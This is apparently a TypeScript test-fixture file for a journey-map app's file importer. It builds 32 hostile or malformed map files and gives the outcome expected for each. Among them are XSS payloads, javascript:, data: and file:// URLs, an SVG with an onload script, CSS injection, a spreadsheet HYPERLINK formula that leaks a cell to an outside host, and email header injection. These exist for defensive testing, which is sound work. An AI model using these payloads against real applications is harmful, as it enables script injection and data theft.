import { doc, docText, ELSEWHERE, folderOf, person, SCRIPT, stop, story } from "./case.ts";

const file = folderOf("map");
const RULE = { kind: "attribute", attributeId: "attribute-age", test: { op: "known" } };

function persona(more: object) {
  return [{ id: "persona-1", scope: "map:map-1", name: "Ana", ...more }];
}

function titled(title: unknown, more: object = {}) {
  return { map: { id: "map-1", title, ...more } };
}

function stages(...rows: readonly object[]) {
  return rows.map((row, at) => ({ id: `s${at + 1}`, order: key(at), ...row }));
}

/** The order keys `a0` to `az`, of base 62. */
function key(at: number): string {
  return `a${DIGITS[at]}`;
}

const DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

const LINKS = [
  `javascript:${SCRIPT}`,
  ` JaVaScRiPt:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  "data:text/html,<script>opener.__pwned=1</script>",
  "vbscript:x",
  "//hostile.invalid/x",
  "blob:https://hostile.invalid/1",
  "file://hostile.invalid/passwd",
  "https://a@hostile.invalid",
  "https://xn--80ak6aa92e.com/",
];

const SVG_IMAGE = `data:image/svg+xml;base64,${Buffer.from(
  `<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'><script>${SCRIPT}</script><image href='${ELSEWHERE}x'/></svg>`,
).toString("base64")}`;

/** Well-formed maps with hostile or broken content. */
export const MAP_FILES = [
  file(
    "01-version-999.json",
    "written by a newer app",
    ["refused", "newer version", "Update"],
    docText({ version: 999 }),
  ),
  file(
    "02-version-0.json",
    "older than any migration",
    ["refused", "“version” is 0", "reads version 1"],
    docText({ version: 0 }),
  ),
  file(
    "03-version-string.json",
    "version of another type",
    ["refused", '"1.0"'],
    docText({ version: "1.0" }),
  ),
  file(
    "04-unknown-fields.json",
    "fields this version does not know",
    ["opened"],
    docText({
      futureThing: { a: [1] },
      stages: stages({ name: "A", future: true }, { name: "B" }),
    }),
  ),
  file(
    "05-missing-arrays.json",
    "no collections",
    ["repaired", "stages: the list is missing"],
    JSON.stringify({ format: "wayfelt", version: 1, map: { id: "map-1", title: "no arrays" } }),
  ),
  file(
    "06-wrong-types.json",
    "wrong types everywhere",
    [
      "refused",
      "map.title must be a text",
      "stages must be a list",
      "lanes must be a list",
      "touchpoints must be a list",
    ],
    docText({ ...titled(5), stages: {}, lanes: "x", touchpoints: null }),
  ),
  file(
    "07-dangling-refs.json",
    "references to nothing",
    ["repaired", "tray", "stands in the first"],
    docText({
      touchpoints: [{ ...stop("t1", "orphan"), stageId: "nope", laneId: "nope" }],
      stories: [
        story("q1", "words must survive", { touchpointId: "ghost", participantId: "ghost" }),
      ],
    }),
  ),
  file(
    "08-duplicate-ids.json",
    "duplicate ids",
    ["repaired", "t1 stood twice"],
    docText({ touchpoints: [stop("t1", "A"), stop("t1", "B", "s2")] }),
  ),
  file(
    "09-id-is-proto.json",
    "ids that are names of Object.prototype",
    ["opened"],
    docText({
      stages: ["__proto__", "constructor", "toString", "hasOwnProperty"].map((id, at) => ({
        id,
        name: "ABCD"[at],
        order: `a${at}`,
      })),
      touchpoints: [stop("__proto__", "x", "__proto__")],
      stories: [
        story("constructor", "Nice ad", { touchpointId: "__proto__", participantId: "p1" }),
      ],
    }),
  ),
  file(
    "10-id-selector-injection.json",
    "ids that break selectors, URLs and routes",
    ["opened"],
    docText({
      map: { id: '"] , * , [x="/../%2e%2e/#?&', title: "Hostile probe" },
      touchpoints: [stop('"] , * , [x="', "x"), stop("a b/c#d?e&f", "y", "s2")],
      stories: [story("q1", "Nice ad", { touchpointId: '"] , * , [x="', participantId: "p1" })],
    }),
  ),
  file(
    "11-xss-titles.json",
    "HTML and template text in every label",
    ["opened"],
    docText({
      ...titled(`<img src=x onerror=${SCRIPT}>`, {
        goal: `<svg onload=${SCRIPT}>`,
        scenario: `<script>${SCRIPT}</script>`,
      }),
      stages: stages({ name: `<script>${SCRIPT}</script>` }, { name: `"><svg/onload=${SCRIPT}>` }),
      lanes: [
        { id: "l1", name: `<b onmouseover=${SCRIPT}>x</b>`, role: "touchpoints", order: "a0" },
      ],
      touchpoints: [
        stop("t1", `</foreignObject></svg><script>${SCRIPT}</script>`, "s1", {
          note: `<img src=x onerror=${SCRIPT}>`,
        }),
      ],
      participants: [person("p1", `<img src=x onerror=${SCRIPT}>`)],
      personas: persona({
        name: `<img src=x onerror=${SCRIPT}>`,
        story: `<script>${SCRIPT}</script>`,
      }),
      stories: [
        story(
          "q1",
          `{{constructor.constructor('${SCRIPT}')()}} \${${SCRIPT}} <iframe srcdoc='<script>parent.__pwned=1</script>'>`,
          { participantId: "p1" },
        ),
      ],
    }),
  ),
  file(
    "12-javascript-urls.json",
    "URL schemes",
    ["opened"],
    docText({
      touchpoints: LINKS.map((link, at) =>
        stop(`t${at}`, "L", "s1", { link: link.trim(), note: link }),
      ),
    }),
  ),
  file(
    "13-remote-images.json",
    "remote image: tracking pixel and tainted canvas",
    ["repaired", "personas[0].portrait", "left out"],
    docText({
      personas: persona({ portrait: `${ELSEWHERE}pixel.png` }),
      participants: [person("p1", "Ana", { avatar: `${ELSEWHERE}pixel.png` })],
      touchpoints: [stop("t1", "x", "s1", { image: `${ELSEWHERE}t.svg` })],
    }),
  ),
  file(
    "14-svg-data-image.json",
    "SVG data URL as portrait",
    ["repaired", "personas[0].portrait", "left out"],
    docText({ personas: persona({ portrait: SVG_IMAGE }) }),
  ),
  file(
    "15-css-injection.json",
    "CSS in a colour",
    ["repaired", "segments[0].colour"],
    docText({
      stages: stages(
        { name: "A", color: `red;background:url(${ELSEWHERE}x)` },
        { name: "B", color: "var(--x);} *{display:none}" },
      ),
      segments: [{ id: "g1", order: "a0", name: "All", rule: RULE, colour: `url(${ELSEWHERE}y)` }],
    }),
  ),
  file(
    "16-nan-positions.json",
    "unusable or astronomic coordinates",
    ["repaired", "organisationImportance"],
    docText({
      touchpoints: [
        stop("t1", "a", "s1", { x: null, y: "12px", organisationImportance: 1e308 }),
        stop("t2", "b", "s2", { x: 1e308, y: -1e308, organisationImportance: -1e308 }),
      ],
    }),
  ),
  file(
    "17-negative-sizes.json",
    "sizes",
    ["opened"],
    docText({
      stages: stages({ name: "A", width: -5 }, { name: "B", width: 0 }, { name: "C", width: 1e9 }),
      segments: [{ id: "g1", order: "a0", name: "All", rule: RULE, colour: -5 }],
    }),
  ),
  file(
    "18-score-out-of-range.json",
    "sentiment values outside the scale",
    ["repaired", "stories[0].score", "not scored"],
    docText({
      stories: [990, -990, 0.333333333333, "2", null, true, [], {}].map((score, at) =>
        story(`q${at}`, `words ${at}`, { score }),
      ),
    }),
  ),
  file(
    "19-cycle-parent.json",
    "cycles and self-parent",
    ["repaired", "leads to itself"],
    docText({
      touchpoints: [
        stop("t1", "a", "s1", { parent: "t2" }),
        stop("t2", "b", "s1", { parent: "t1" }),
        stop("t3", "c", "s1", { parent: "t3" }),
      ],
      connections: [
        { id: "e1", from: "t1", to: "t2" },
        { id: "e2", from: "t2", to: "t1" },
        { id: "e3", from: "t3", to: "t3" },
      ],
    }),
  ),
  file(
    "20-self-edges.json",
    "self, dangling and duplicate edges",
    ["repaired", "leads to itself", "leads to nothing", "stood twice"],
    docText({
      connections: [
        { id: "e1", from: "t1", to: "t1" },
        { id: "e2", from: "t1", to: "zz" },
        { id: "e2", from: "t1", to: "t2" },
      ],
    }),
  ),
  file(
    "21-long-title.json",
    "title of 400 kB without a break",
    ["repaired", "400,000 characters"],
    () => docText(titled("W".repeat(400_000))),
  ),
  file(
    "22-zalgo-bidi.json",
    "combining stacks, bidi overrides, zero-width",
    ["repaired"],
    docText({
      ...titled(`Z${"\u0300\u0301\u0302".repeat(400)}`),
      stages: stages(
        { name: "\u202etxet desrever\u202c" },
        { name: "a\u200b\u200d\u2060\ufeffb" },
        { name: "\u2066\u2067 isolate never closed" },
      ),
    }),
  ),
  file(
    "23-control-chars.json",
    "C0 controls, ESC, LS and PS",
    ["repaired", "map.title", "taken out"],
    docText(titled("a\u0000b\u0007c\u001b[31md\u2028e\u2029f")),
  ),
  file(
    "24-emoji-rtl.json",
    "real international text",
    ["opened"],
    docText({
      ...titled("👩‍👩‍👧‍👦🏳️‍🌈 مرحبا שלום 你好 नमस्ते"),
      stories: [story("q1", "هذا رائع 👍 100%", { score: 100 })],
    }),
  ),
  file(
    "25-empty-names.json",
    "empty and blank names",
    ["opened"],
    docText({
      ...titled(""),
      stages: stages({ name: "" }, { name: "   " }, { name: "\u00a0" }),
    }),
  ),
  file(
    "26-5000-touchpoints.json",
    "big map",
    ["opened"],
    () =>
      docText({
        stages: numbered(50, (at) => ({ id: `s${at}`, name: `S${at}`, order: key(at) })),
        lanes: numbered(10, (at) => ({
          id: `l${at}`,
          name: `L${at}`,
          role: "touchpoints",
          order: key(at),
        })),
        touchpoints: numbered(5_000, (at) => ({
          id: `t${at}`,
          title: `T${at}`,
          stageId: `s${at % 50}`,
          laneId: `l${Math.floor(at / 50) % 10}`,
          order: key(Math.floor(at / 500)),
        })),
      }),
    true,
  ),
  file(
    "27-order-key-garbage.json",
    "malformed or swollen fractional index",
    ["repaired", "stages"],
    docText({
      stages: [
        { id: "s1", name: "A", order: "zzz!" },
        { id: "s2", name: "B", order: "" },
        { id: "s3", name: "C", order: "a0".repeat(500) },
      ],
    }),
  ),
  file(
    "28-future-dates.json",
    "impossible dates",
    ["repaired", "map.createdAt", "stories[0].toldAt", "no date"],
    docText({
      ...titled("Hostile probe", { createdAt: "9999-12-31T23:59:60Z" }),
      stories: ["2026-02-30", "31/12/2025", "yesterday", -1, 8.64e15 + 1].map((toldAt, at) =>
        story(`q${at}`, "x", { toldAt }),
      ),
    }),
  ),
  file(
    "29-excalidraw.json",
    "another program's file",
    ["refused", "Excalidraw"],
    JSON.stringify({ type: "excalidraw", version: 2, elements: [], appState: {} }),
  ),
  file(
    "30-tldraw.json",
    "another program's file",
    ["refused", "tldraw"],
    JSON.stringify({ tldrawFileFormatVersion: 1, schema: {}, records: [] }),
  ),
  file(
    "31-handlebars-persona.json",
    "fields of a person that a table, a mail or a template would run",
    ["repaired", "attributes: “income” was made"],
    docText({
      participants: [
        person("p1", `=HYPERLINK("${ELSEWHERE}?"&A1)`, {
          attributes: { "attribute-age": -5, income: 1e40, email: "a@b\r\nBcc: x@hostile.invalid" },
        }),
      ],
    }),
  ),
  file(
    "32-same-id-as-open-map.json",
    "a map whose id equals an existing map's",
    ["opened"],
    docText(titled("impostor with the open map's id")),
  ),
];

function numbered<T>(count: number, make: (at: number) => T): readonly T[] {
  return Array.from({ length: count }, (_, at) => make(at));
}

/** The map that is there before a file of the same id comes. */
export const BEFORE = JSON.stringify(doc({ map: { id: "map-1", title: "Was here before" } }));
